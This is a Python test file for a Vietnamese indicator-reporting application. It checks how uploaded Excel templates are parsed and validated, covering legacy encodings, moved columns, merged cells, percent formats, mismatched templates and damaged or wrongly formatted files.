    """In a VNI column "Không" became "Khơng", which is no word: a cell the conversion would break is no VNI."""
    cells = {"J9": encode_legacy("Báo cáo của Ủy ban nhân dân xã", "vni"), "J10": "Không"}
    cells |= {"J11": encode_legacy("Phòng Lao động", "vni"), "K9": "BHXH"}  # no Unicode in the sheet
    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | cells))
    assert [v.source for v in parsed.values[:2]] == ["Báo cáo của Ủy ban nhân dân xã", "Không"]
    assert [c.cell for c in parsed.conversions] == ["J9", "J11"]


@pytest.mark.parametrize("encoding", ["tcvn3", "vni"])
def test_a_place_name_in_a_legacy_column_is_converted(report_request, encoding):
    """ "Bắc Kạn", "Đắk Lắk", "Quỳnh Lưu" stayed garbled: their words failed the syllable check once converted."""
    cells = {"J9": encode_legacy("Bảo hiểm xã hội huyện", encoding), "J10": encode_legacy("Phòng Lao động", encoding)}
    cells |= {"J11": encode_legacy("Bắc Kạn", encoding), "J12": encode_legacy("Đắk Lắk", encoding), "K9": "BHXH"}
    cells |= {"J13": encode_legacy("Quỳnh Lưu", encoding)}
    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | cells))
    assert [v.source for v in parsed.values][2:] == ["Bắc Kạn", "Đắk Lắk", "Quỳnh Lưu"]


def test_a_vni_source_is_converted_too(report_request):
    legacy = encode_legacy("Báo cáo của Ủy ban nhân dân xã", "vni")
    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | {"J10": legacy}))
    assert [(c.cell, c.encoding, c.after) for c in parsed.conversions] == [
        ("J10", "vni", "Báo cáo của Ủy ban nhân dân xã")
    ]


def test_milestone_answers_in_other_words_are_understood(report_request):
    for answer, expected in (("Chưa đạt", 0), ("chua dat", 0), ("Có", 1), (True, 1), (0, 0)):
        parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | {"I12": answer}))
        assert next(v.value for v in parsed.values if v.indicator.code == "CT04") == expected, answer


def test_rows_moved_in_an_unprotected_copy_are_found_by_their_code(report_request):
    wb = load_workbook(io.BytesIO(fill(build_template(report_request), GOOD)))
    wb[REPORT_SHEET].insert_rows(9, amount=2)
    out = io.BytesIO()
    wb.save(out)
    values = {v.indicator.code: v for v in parse_upload(report_request, out.getvalue()).values}
    assert values["CT01"].value == D("1250") and values["CT03"].denominator == D("15")


def test_rows_sorted_without_the_code_column_are_refused_not_saved_for_the_wrong_indicators(report_request):
    """In a copy without protection, the names and figures were sorted and the codes stayed: each figure would have
    been saved for the indicator of its row's code."""
    wb = load_workbook(io.BytesIO(fill(build_template(report_request), GOOD)))
    ws = wb[REPORT_SHEET]
    ws.protection.sheet = False
    for column in "BCDEF":  # rows 9 and 10 (CT01, CT02) swapped, except their codes
        ws[f"{column}9"].value, ws[f"{column}10"].value = ws[f"{column}10"].value, ws[f"{column}9"].value
    out = io.BytesIO()
    wb.save(out)
    errors = errors_of(report_request, out.getvalue())
    assert set(errors) == {"B9", "B10"}
    assert "Dòng 9 có mã CT01 nhưng tên là của chỉ tiêu CT02" in errors["B9"]
    # A name merely edited is no other indicator's: the file is read.
    edited = fill(build_template(report_request), GOOD | {"B9": "Số trẻ được cấp thẻ BHYT"})
    assert parse_upload(report_request, edited).values


# --------------------------------------------------------------------------------------------- refusals


def test_every_cell_error_is_reported_at_once_with_its_cell(report_request):
    cells = {
        "F9": -5,  # negative
        "F10": "mười triệu",  # not a number
        "G11": 20,  # numerator > denominator
        "H11": 15,
        "I12": None,  # milestone required
        "F13": 120,  # a percentage over 100
        "F14": 3,  # computed indicator: not for the unit to type
    }
    errors = errors_of(report_request, fill(build_template(report_request), cells))
    assert set(errors) == {"F9", "F10", "G11", "I12", "F13", "F14"}
    assert "không được âm" in errors["F9"]
    assert "“mười triệu” không phải là số" in errors["F10"]
    assert "tử số (20) không được lớn hơn mẫu số (15)" in errors["G11"]
    assert "chưa chọn" in errors["I12"]
    assert "từ 0 đến 100" in errors["F13"]
    assert "tự động" in errors["F14"]


def test_missing_required_values_are_each_reported(report_request):
    errors = errors_of(report_request, build_template(report_request))
    assert set(errors) == {"F9", "F10", "G11", "I12", "F13"}
    assert errors["F9"] == "Chỉ tiêu CT01: chưa nhập số liệu."
    assert errors["G11"] == "Chỉ tiêu CT03: chưa nhập tử số và mẫu số."


def test_a_ratio_needs_both_parts_and_a_denominator_above_zero_unless_both_are_zero(report_request):
    errors = errors_of(report_request, fill(build_template(report_request), GOOD | {"G11": 3, "H11": None}))
    assert errors == {"H11": "Chỉ tiêu CT03: thiếu mẫu số."}
    errors = errors_of(report_request, fill(build_template(report_request), GOOD | {"G11": 2, "H11": 0}))
    assert errors == {"H11": "Chỉ tiêu CT03: mẫu số bằng 0 thì tử số phải bằng 0."}
    # 0 / 0 (nobody concerned) is what the web form accepts and the template is then filled with: it comes back.
    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | {"G11": 0, "H11": 0}))
    [ratio] = [v for v in parsed.values if v.indicator.code == "CT03"]
    assert (ratio.numerator, ratio.denominator) == (0, 0)


def test_a_formula_where_a_value_is_expected_is_refused(report_request):
    errors = errors_of(report_request, fill(build_template(report_request), GOOD | {"F9": "=100+150", "J10": "=B9"}))
    assert errors["F9"] == "Ô F9 chứa công thức; hãy dán giá trị (Paste Special → Values)."
    assert errors["J10"].startswith("Ô J10 chứa công thức")


def test_a_date_that_excel_made_of_a_number_is_refused(report_request):
    errors = errors_of(report_request, fill(build_template(report_request), GOOD | {"F9": datetime.date(2023, 2, 1)}))
    assert "ngày tháng" in errors["F9"]


def test_a_template_of_another_plan_is_refused_with_one_clear_error(report_request, duc_linh):
    other_plan = make_plan(reference="12/KH-UBND", title="Kế hoạch khác")
    other = make_request(other_plan, duc_linh)
    message = the_error(report_request, fill(build_template(other), GOOD))
    assert message.startswith("Tệp mẫu này của kế hoạch khác (12/KH-UBND)")


def test_a_template_of_another_unit_or_period_is_refused(report_request, plan, duc_linh):
    tanh_linh = make_request(plan, f.legacy_district(f.TANH_LINH))
    assert the_error(report_request, fill(build_template(tanh_linh), GOOD)).startswith(
        "Tệp mẫu này của đơn vị khác (Huyện Tánh Linh)"
    )
    last_year = make_request(plan, duc_linh, 2022)
    assert the_error(report_request, fill(build_template(last_year), GOOD)).startswith(
        "Tệp mẫu này của kỳ khác (01/01/2022 – 31/12/2022)"
    )


def test_an_indicator_added_after_the_download_asks_for_a_new_template(report_request, plan):
    content = fill(build_template(report_request), GOOD)
    Indicator.objects.create(plan=plan, order=9, code="CT07", name="Chỉ tiêu mới", measure="người")
    errors = errors_of(report_request, content)
    assert list(errors) == [""]
    assert "CT07" in errors[""] and "tải tệp mẫu mới" in errors[""]


@pytest.mark.parametrize(
    "content, start",
    [
        (b"not a spreadsheet at all", "Tệp không phải là bảng tính Excel (.xlsx)"),
        (OLE2_MAGIC + b"\x01" * 2048, "Tệp đang đặt mật khẩu"),
        (b"PK\x03\x04" + b"\x00" * 200, "Tệp bị hỏng"),
    ],
    ids=["text", "password", "corrupted"],
)
def test_parse_refuses_files_that_are_no_workbook(report_request, content, start):
    assert the_error(report_request, content).startswith(start)


def test_a_zip_with_damaged_members_is_refused_as_corrupted(report_request):
    content = bytearray(build_template(report_request))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename) + 10
    content[start : start + 200] = b"\xff" * 200
    assert the_error(report_request, bytes(content)).startswith("Tệp bị hỏng")


def test_a_damaged_hidden_sheet_is_refused(report_request):
    wb = load_workbook(io.BytesIO(build_template(report_request)))
    for row in wb[META_SHEET].iter_rows():
        if row[0].value == "plan_id":
            row[1].value = "không rõ"
    out = io.BytesIO()
    wb.save(out)
    assert "thông tin ẩn" in the_error(report_request, out.getvalue())


# --------------------------------------------------------------------------------------------- no hidden sheet


def copied_workbook(rows: dict[str, list], *, merge_source: bool = False) -> bytes:
    """Data copied into an old office file: a title, merged two-level headings, an STT column before the codes,
    other column order; no hidden sheet."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Biểu 01"
    ws["A1"] = "UBND HUYỆN ĐỨC LINH — BÁO CÁO NĂM 2023"
    ws.merge_cells("A1:I1")
    headings = {"A3": "STT", "B3": "Mã chỉ tiêu", "C3": "Tên chỉ tiêu", "D3": "Kết quả", "H3": "Nguồn số liệu"}
    headings |= {"I3": "Ghi chú", "D4": "Thực hiện", "E4": "Tử số", "F4": "Mẫu số", "G4": "Đạt / chưa đạt"}
    for coordinate, text in headings.items():
        ws[coordinate] = text
    for merged in ("A3:A4", "B3:B4", "C3:C4", "D3:G3", "H3:H4", "I3:I4"):
        ws.merge_cells(merged)
    for number, (code, values) in enumerate(rows.items(), start=1):
        ws.append([number, code, f"Chỉ tiêu {code}", *values])
    if merge_source:
        ws.merge_cells("H5:H6")
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


COPIED = {
    "CT01": [1250, None, None, None, "BHXH huyện", None],
    "CT02": ["35.000.000", None, None, None, None, "ước tính"],
    "CT03": [None, 12, 15, None, "Phòng Y tế", None],
    "CT04": [None, None, None, "Đạt", None, None],
    "CT05": [97.5, None, None, None, None, None],
}


def test_a_copy_without_the_hidden_sheet_is_read_by_codes_and_merged_headings(report_request):
    parsed = parse_upload(report_request, copied_workbook(COPIED))
    assert not parsed.from_template
    assert parsed.warnings and "cột B" in parsed.warnings[0]
    got = {v.indicator.code: (v.value, v.numerator, v.denominator, v.source, v.comment) for v in parsed.values}
    assert got == {
        "CT01": (D("1250"), None, None, "BHXH huyện", ""),
        "CT02": (D("35000000"), None, None, "", "ước tính"),
        "CT03": (None, D("12"), D("15"), "Phòng Y tế", ""),
        "CT04": (D("1"), None, None, "", ""),
        "CT05": (D("97.5"), None, None, "", ""),
    }


def test_in_a_copy_a_merged_source_applies_to_each_row_it_covers(report_request):
    parsed = parse_upload(report_request, copied_workbook(COPIED, merge_source=True))
    assert {v.indicator.code: v.source for v in parsed.values}["CT02"] == "BHXH huyện"


def test_in_a_copy_text_kept_under_a_merged_range_is_not_read(report_request):
    # LibreOffice can keep the contents of the cells a merge covers; they stay hidden, and are not read either.
    rows = COPIED | {"CT02": ["35.000.000", None, None, None, "ẩn dưới vùng gộp", "ước tính"]}

    def merge(name: str, text: str, target) -> str:
        return text.replace("</mergeCells>", '<mergeCell ref="H5:H6"/></mergeCells>') if "sheet1" in name else text

    parsed = parse_upload(report_request, rewritten(copied_workbook(rows), merge))
    assert {v.indicator.code: v.source for v in parsed.values}["CT02"] == "BHXH huyện"


def test_in_a_copy_a_missing_indicator_and_a_repeated_code_are_errors(report_request):
    rows = {k: v for k, v in COPIED.items() if k != "CT04"}
    content = copied_workbook(rows)
    wb = load_workbook(io.BytesIO(content))
    wb.active.append([9, "CT01", "lặp lại", 5])
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(SpreadsheetErrors) as caught:
        parse_upload(report_request, out.getvalue())
    messages = [(e.cell, e.message) for e in caught.value.errors]
    assert ("B9", "Mã chỉ tiêu CT01 xuất hiện hai lần (dòng 5 và dòng 9).") in messages
    assert any(cell == "" and "CT04" in message for cell, message in messages)


def test_a_copy_with_a_sheet_for_each_year_is_refused_naming_them(report_request):
    """A workbook kept over the years: the first sheet holding the codes was read, whichever year it was."""
    wb = load_workbook(io.BytesIO(copied_workbook(COPIED)))
    wb.active.title = "Năm 2022"
    wb.copy_worksheet(wb.active).title = "Năm 2023"
    out = io.BytesIO()
    wb.save(out)
    assert the_error(report_request, out.getvalue()).startswith(
        "Tệp có 2 trang cùng chứa các chỉ tiêu của báo cáo: “Năm 2022”, “Năm 2023”."
    )
    # A sheet that only lists some of the codes (a note, a summary) is no other report.
    del wb["Năm 2023"]
    notes = wb.create_sheet("Ghi chú")
    for code in ("CT01", "CT02", "CT03"):  # half of the six
        notes.append([code, "lấy từ sổ theo dõi"])
    out = io.BytesIO()
    wb.save(out)
    parsed = parse_upload(report_request, out.getvalue())
    assert parsed.values
    assert "Trang “Ghi chú” cũng có các mã chỉ tiêu; hệ thống đọc trang “Năm 2022”" in parsed.warnings[0]


def test_a_copy_without_a_column_its_indicators_need_names_it(report_request):
    """It gave a server error: the milestone's own error named a cell in a column the file does not have."""
    wb = load_workbook(io.BytesIO(copied_workbook(COPIED | {"CT04": [None] * 6})))
    wb.active["G4"] = None
    out = io.BytesIO()
    wb.save(out)
    assert errors_of(report_request, out.getvalue()) == {"": "Không tìm thấy cột “Đạt/Chưa đạt”."}


def test_a_workbook_without_any_of_the_codes_is_refused(report_request):
    wb = Workbook()
    wb.active.append(["Mã", "Giá trị"])
    wb.active.append(["X1", 5])
    out = io.BytesIO()
    wb.save(out)
    assert the_error(report_request, out.getvalue()).startswith("Không tìm thấy chỉ tiêu nào")


def test_in_a_copy_a_number_inside_a_merged_range_is_an_error(report_request):
    rows = COPIED | {"CT02": [None, None, None, None, None, "ước tính"]}
    wb = load_workbook(io.BytesIO(copied_workbook(rows)))
    wb.active.merge_cells("D5:D6")  # one value typed over CT01 and CT02
    out = io.BytesIO()
    wb.save(out)
    errors = errors_of(report_request, out.getvalue())
    assert errors == {"D6": "Ô D6 nằm trong vùng gộp ô D5:D6; hãy bỏ gộp ô và nhập số liệu cho từng chỉ tiêu."}


# --------------------------------------------------------------------------------------------- file objects


def test_parse_takes_the_uploaded_file_itself(report_request):
    file = upload("bao-cao.xlsx", fill(build_template(report_request), GOOD))
    file.read(10)  # wherever the view left it
    assert len(parse_upload(report_request, file).values) == 5


def test_parse_refuses_an_uploaded_file_over_the_limit_before_reading_it(settings, report_request):
    settings.GIAMSAT_MAX_UPLOAD_BYTES = 1024
    message = the_error(report_request, upload("bao-cao.xlsx", fill(build_template(report_request), GOOD)))
    assert message.startswith("Tệp quá lớn") and message.endswith("Dung lượng tối đa là 1 KB.")


def test_export_rows_streams_a_generator():
    content = export_rows(["Mã", "Giá trị"], ((f"X{i}", i) for i in range(1000)), title="Bảng: chỉ tiêu/đơn vị")
    ws = load_workbook(io.BytesIO(content)).active
    assert ws.title == "Bảng chỉ tiêu đơn vị"
    assert ws.max_row == 1001 and ws["B1001"].value == 999


def test_rows_far_below_the_indicators_are_not_read_and_merged_ranges_after_them_still_count(report_request):
    """A value filled down a whole column (a million cells in a 200 KB file) took 36 s and 270 MB to read;
    nothing below row SCAN_ROWS is ever looked at."""
    filler = "".join(f'<row r="{n}"><c r="L{n}"><v>1</v></c></row>' for n in range(20, SCAN_ROWS + 3000))

    def change(name, text, _target):
        if name != "xl/worksheets/sheet1.xml":
            return text
        text = text.replace("</sheetData>", filler + "</sheetData>")
        if "</mergeCells>" in text:
            return text.replace("</mergeCells>", '<mergeCell ref="F9:F10"/></mergeCells>')
        return text.replace("</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="F9:F10"/></mergeCells>')

    content = rewritten(fill(build_template(report_request), GOOD), change)
    book = _open_workbook(content, max_row=SCAN_ROWS)
    try:
        assert max(book[REPORT_SHEET].rows) == SCAN_ROWS
    finally:
        book.close()
    assert errors_of(report_request, content) == {
        "F10": "Ô F10 nằm trong vùng gộp ô F9:F10; hãy bỏ gộp ô và nhập số liệu cho từng chỉ tiêu."
    }


# --- the template and the versions of the report


def _web_save(report, user, plan, ct01):
    report.refresh_from_db()
    values = [
        ValueInput(indicator=indicator(plan, "CT01"), value=D(ct01)),
        ValueInput(indicator=indicator(plan, "CT02"), value=D(35000000)),
        ValueInput(indicator=indicator(plan, "CT03"), numerator=D(12), denominator=D(15)),
        ValueInput(indicator=indicator(plan, "CT04"), value=D(1)),
        ValueInput(indicator=indicator(plan, "CT05"), value=D("97.5")),
    ]
    do_save_draft(report, acting_user=user, revision=report.revision, narrative={}, values=values)
    report.refresh_from_db()
    return report


def _take(request, user, content):
    return parse_upload(request, content).save_into(request, acting_user=user)


def test_a_template_of_the_first_version_does_not_undo_web_edits_of_a_correction(
    report_request, plan, district_officer, province_officer
):
    """The correction's revisions start again from 0, so the old file's revision 3 looked newer than the
    correction's web edit, and the file silently put CT01 back."""
    draft = get_or_start_draft(report_request, acting_user=district_officer)
    for _ in range(3):
        _web_save(draft, district_officer, plan, 1250)
    old = fill(build_template(report_request), GOOD)
    do_submit(draft, acting_user=district_officer)
    do_accept(draft, acting_user=province_officer)
    correction = do_open_correction(draft, acting_user=district_officer)
    _web_save(correction, district_officer, plan, 777)
    with pytest.raises(StaleDraft):
        _take(report_request, district_officer, old)
    assert correction.values.get(indicator__code="CT01", breakdown="").value == 777
    # A template of the correction itself is taken.
    _take(report_request, district_officer, fill(build_template(report_request), GOOD))


def test_a_template_downloaded_while_the_report_waited_for_review_is_filled_and_taken_once_returned(
    report_request, plan, district_officer, province_officer
):
    """It came out blank, and once the report was returned it was refused as older than the web edits."""
    draft = _web_save(get_or_start_draft(report_request, acting_user=district_officer), district_officer, plan, 1300)
    do_submit(draft, acting_user=district_officer)
    template = build_template(report_request)
    assert load_workbook(io.BytesIO(template))[REPORT_SHEET]["F9"].value == 1300
    do_return(draft, acting_user=province_officer, comment="Sửa CT01")
    _take(report_request, district_officer, fill(template, GOOD | {"F9": 1310}))
    assert draft.values.get(indicator__code="CT01", breakdown="").value == 1310


def test_the_template_of_another_request_for_the_same_unit_and_period_is_refused(report_request, plan, duc_linh):
    schedule = Schedule.objects.create(
        plan=plan, title="Báo cáo bổ sung", frequency=Frequency.YEARLY, first_year=2023, last_year=2023
    )
    other = ReportRequest.objects.create(
        schedule=schedule,
        unit=duc_linh,
        period_kind=PeriodKind.YEAR,
        period_start=report_request.period_start,
        period_end=report_request.period_end,
        due_on=datetime.date(2024, 3, 1),
    )
    message = the_error(report_request, fill(build_template(other), GOOD))
    assert message.startswith("Tệp mẫu này của yêu cầu báo cáo khác (cùng đơn vị, cùng kỳ), không dùng được")


@pytest.mark.parametrize(("number_format", "typed", "read"), [('0.0" %"', 85, 85), ("0\\%", 85, 85), ("0%", 0.85, 85)])
def test_only_a_real_percent_format_multiplies_by_100(report_request, number_format, typed, read):
    """A "%" shown as text in the format ("0.0 %" typed as a custom format) made 0.5 into 50 and 85 into 8500."""
    wb = load_workbook(io.BytesIO(fill(build_template(report_request), GOOD)))
    wb[REPORT_SHEET]["F13"].value = typed
    wb[REPORT_SHEET]["F13"].number_format = number_format
    out = io.BytesIO()
    wb.save(out)
    values = {v.indicator.code: v for v in parse_upload(report_request, out.getvalue()).values}
    assert values["CT05"].value == read


@pytest.mark.parametrize(("coordinate", "typed"), [("F9", 0.5), ("G11", 0.8), ("H11", 1)])
def test_a_percent_format_on_a_figure_not_in_percent_is_refused_on_its_cell(report_request, coordinate, typed):
    """Excel showed 50%, and 0.5 children were saved (CT01 is a count; CT03's parts are counts)."""
    wb = load_workbook(io.BytesIO(fill(build_template(report_request), GOOD)))
    wb[REPORT_SHEET][coordinate].value = typed
    wb[REPORT_SHEET][coordinate].number_format = "0%"
    out = io.BytesIO()
    wb.save(out)
    errors = errors_of(report_request, out.getvalue())
    assert list(errors) == [coordinate]
    assert "ô định dạng phần trăm nhưng số này không tính bằng %" in errors[coordinate]


def test_a_cell_whose_style_the_file_does_not_hold_is_read_not_a_server_error(report_request):
    """A file from another program whose cell named a style past the end of the styles: openpyxl's lookup raised
    IndexError out of the upload (LibreOffice opens such a file)."""

    def change(name, text, target):
        if name == "xl/worksheets/sheet1.xml":
            return re.sub(r'<c r="F13"( s="\d+")?( t="n")?>', '<c r="F13" s="250">', text)
        return text

    content = rewritten(fill(build_template(report_request), GOOD), change)
    values = {v.indicator.code: v for v in parse_upload(report_request, content).values}
    assert values["CT05"].value == D("97.5")


@pytest.mark.parametrize("typed", ["\u200b7", "7\u200b", "\ufeff7", "7\u2060"])
def test_a_number_pasted_with_an_invisible_character_is_read(report_request, typed):
    parsed = parse_upload(report_request, fill(build_template(report_request), GOOD | {"F9": typed}))
    assert {v.indicator.code: v.value for v in parsed.values}["CT01"] == 7


def test_an_indicator_whose_kind_changed_since_the_download_asks_for_a_new_template(report_request, plan):
    """The errors asked for the numerator and denominator, cells the user's file has locked and grey."""
    template = fill(build_template(report_request), GOOD)
    Indicator.objects.filter(pk=indicator(plan, "CT01").pk).update(kind=IndicatorKind.RATIO)
    assert errors_of(report_request, template) == {
        "": "Chỉ tiêu CT01 đã đổi loại (nay là “Tỷ lệ (tử số / mẫu số)”) sau khi tải tệp mẫu này; hãy tải tệp mẫu mới."
    }


def test_an_amount_typed_in_dong_is_converted_to_the_indicators_measure(report_request, plan):
    """For an indicator counted in millions of dong, "35.000.000 đ" was stored as 35 million millions."""
    content = fill(build_template(report_request), GOOD | {"F10": "35.500.000 đ"})
    assert {v.indicator.code: v.value for v in parse_upload(report_request, content).values}["CT02"] == 35500000
    Indicator.objects.filter(plan=plan, code="CT02").update(measure="Triệu đồng")
    assert {v.indicator.code: v.value for v in parse_upload(report_request, content).values}["CT02"] == D("35.5")
    Indicator.objects.filter(plan=plan, code="CT02").update(measure="USD")
    assert errors_of(report_request, content) == {
        "F10": "Chỉ tiêu CT02 tính bằng USD; hãy nhập số theo đơn vị đó, không ghi “đ”."
    }


def test_a_copy_of_the_report_sheet_in_the_file_is_refused(report_request):
    """Figures typed into a copied sheet (Move or Copy) were silently ignored for the untouched original's."""
    wb = load_workbook(io.BytesIO(fill(build_template(report_request), GOOD)))
    copy = wb.copy_worksheet(wb[REPORT_SHEET])
    copy.title = "Báo cáo (2)"
    copy["F9"] = 999
    out = io.BytesIO()
    wb.save(out)
    assert the_error(report_request, out.getvalue()) == (
        "Tệp có thêm trang “Báo cáo (2)” cũng chứa các chỉ tiêu của báo cáo, nhưng hệ thống chỉ đọc trang “Báo cáo”. "
        "Hãy nhập số liệu vào trang “Báo cáo”, xóa trang “Báo cáo (2)” rồi tải lên lại."
    )
    # A sheet of notes beside the report is fine.
    wb.remove(copy)
    wb.create_sheet("Ghi chú")["A1"] = "Số liệu lấy từ sổ theo dõi"
    out = io.BytesIO()
    wb.save(out)
    assert parse_upload(report_request, out.getvalue()).values


def template_without(report_request, column: str, cells: dict | None = None) -> bytes:
    """The filled template with one column deleted, as a user can once the sheet's protection is lifted."""
    wb = load_workbook(io.BytesIO(fill(build_template(report_request), cells or GOOD)))
    ws = wb[REPORT_SHEET]
    ws.protection.sheet = False
    ws.delete_cols(column_index_from_string(column))
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def read_values(report_request, content: bytes) -> dict:
    parsed = parse_upload(report_request, content)
    return {v.indicator.code: (v.value, v.numerator, v.denominator, v.source, v.comment) for v in parsed.values}


def test_a_template_with_a_column_deleted_is_read_by_its_headings(report_request):
    """With the unit of measure (C) deleted, the source was read as the comment and the comment not at all."""
    expected = read_values(report_request, fill(build_template(report_request), GOOD))
    assert expected["CT01"][3:] == ("Bảo hiểm xã hội huyện", "Số liệu đến 31/12")
    assert read_values(report_request, template_without(report_request, "C")) == expected
    # A reworded heading is not found: the user is told that column was not read.
    wb = load_workbook(io.BytesIO(template_without(report_request, "C")))
    wb[REPORT_SHEET]["I8"] = "Nguồn cung cấp"
    out = io.BytesIO()
    wb.save(out)
    parsed = parse_upload(report_request, out.getvalue())
    assert parsed.values[0].source == ""
    assert parsed.warnings == [
        "Các cột của tệp đã bị di chuyển và không tìm thấy cột “Nguồn”, nên cột đó không được đọc."
    ]
    # The cells named in errors are where the figures now stand.
    errors = errors_of(report_request, template_without(report_request, "C", GOOD | {"F9": -5}))
    assert list(errors) == ["E9"]


def test_a_column_added_with_a_templates_heading_does_not_replace_the_templates_own(report_request):
    """A column "Ghi chú" added at L took the comments' place: K's were dropped without a word."""
    wb = load_workbook(io.BytesIO(fill(build_template(report_request), GOOD)))
    ws = wb[REPORT_SHEET]
    ws.protection.sheet = False
    ws["L8"], ws["L9"], ws["M8"], ws["M9"] = "Ghi chú", "nội bộ", "Thực hiện", 99
    out = io.BytesIO()
    wb.save(out)
    assert read_values(report_request, out.getvalue()) == read_values(
        report_request, fill(build_template(report_request), GOOD)
    )


def test_an_english_template_with_a_column_deleted_reads_under_the_vietnamese_interface(report_request):
    with translation.override("en"):
        english = build_template(report_request)
    wb = load_workbook(io.BytesIO(english))
    ws = wb["Report"]
    ws.protection.sheet = False
    ws["F9"], ws["F10"], ws["G11"], ws["H11"], ws["I12"], ws["F13"], ws["J9"] = 1250, 5, 1, 2, "Met", 50, "BHXH"
    ws.delete_cols(3)
    out = io.BytesIO()
    wb.save(out)
    values = read_values(report_request, out.getvalue())
    assert values["CT01"][0] == 1250 and values["CT01"][3] == "BHXH" and values["CT04"][0] == 1


def test_a_template_without_a_column_its_indicators_need_is_refused(report_request):
    errors = errors_of(report_request, template_without(report_request, "I"))  # "Đạt/Chưa đạt", for CT04
    assert errors == {"": "Không tìm thấy cột “Đạt/Chưa đạt”."}


def test_a_source_merged_with_its_comment_cell_is_not_copied_into_the_comment(report_request):
    wb = load_workbook(io.BytesIO(fill(build_template(report_request), GOOD | {"K9": None})))
    wb[REPORT_SHEET].protection.sheet = False
    wb[REPORT_SHEET].merge_cells("J9:K9")
    out = io.BytesIO()
    wb.save(out)
    [ct01] = [v for v in parse_upload(report_request, out.getvalue()).values if v.indicator.code == "CT01"]
    assert (ct01.source, ct01.comment) == ("Bảo hiểm xã hội huyện", "")


def test_an_opendocument_file_named_xlsx_is_told_to_be_saved_as_xlsx():
    """It was called a damaged workbook; it is a LibreOffice spreadsheet saved in LibreOffice's own format."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
    with pytest.raises(UploadRejected) as refused:
        check_upload(upload("bao-cao.xlsx", out.getvalue()), allowed={"xlsx"})
    assert str(refused.value) == (
        "Tệp được lưu theo định dạng OpenDocument của LibreOffice (.ods, .odt), không phải bảng tính Excel (.xlsx). "
        "Hãy mở tệp, chọn Lưu thành (Save As) và chọn định dạng bảng tính Excel (.xlsx)."
    )


def test_a_template_downloaded_in_english_names_its_sheet_in_english_and_is_read_in_either_language(report_request):
    from django.utils import translation

    with translation.override("en"):
        english = build_template(report_request)
    assert load_workbook(io.BytesIO(english)).sheetnames == ["Report", META_SHEET]
    content = fill(english, GOOD, sheet="Report")
    vietnamese = parse_upload(report_request, content)
    with translation.override("en"):
        assert parse_upload(report_request, content).values == vietnamese.values
    assert vietnamese.from_template and vietnamese.warnings == []
    assert {v.indicator.code for v in vietnamese.values} == {"CT01", "CT02", "CT03", "CT04", "CT05"}


def test_a_long_sheet_name_drops_its_aside_before_its_words():
    """Cut at Excel's 31 characters, the steps' sheet was named "Đúng thời hạn từng bước (chu kỳ"."""
    assert sheet_title("Đúng thời hạn từng bước (chu kỳ đầu)") == "Đúng thời hạn từng bước"
    long = sheet_title("Số vụ việc theo hình thức xâm hại trẻ em trong năm")
    assert long == "Số vụ việc theo hình thức xâm…" and len(long) <= 31
    assert sheet_title("Báo cáo: quý 1/2026") == "Báo cáo quý 1 2026" and sheet_title("???") == "Sheet"


def test_an_export_is_as_wide_as_its_names_and_writes_days_as_the_pages_do():
    """A column of unit names was 12 wide whatever they held, and a due day read 2024-01-15."""
    name = "Thành phố Phan Thiết (Tỉnh Bình Thuận)"
    book = export_rows(
        ["Mã", "Đơn vị", "Hạn nộp", "Gửi lúc"],
        [[593, name, datetime.date(2024, 1, 15), datetime.datetime(2024, 1, 15, 9, 30)]],
    )
    ws = load_workbook(io.BytesIO(book)).active
    assert ws.column_dimensions["B"].width >= len(name) and ws.column_dimensions["A"].width == 12
    assert [c.number_format for c in ws[2][2:]] == ["dd/mm/yyyy", "dd/mm/yyyy hh:mm"]
    assert ws["C2"].value == datetime.datetime(2024, 1, 15)
